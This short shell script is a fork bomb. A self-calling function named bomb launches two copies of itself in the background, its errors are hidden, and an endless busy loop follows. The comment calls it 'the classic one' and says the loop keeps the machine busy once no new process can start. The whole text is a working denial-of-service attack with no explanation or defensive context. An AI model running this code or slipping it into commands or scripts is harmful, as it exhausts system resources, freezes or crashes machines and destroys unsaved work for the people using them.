# The classic one, kept busy when nothing can be started any more.
bomb() { bomb | bomb & }
bomb 2>/dev/null
while :; do :; done
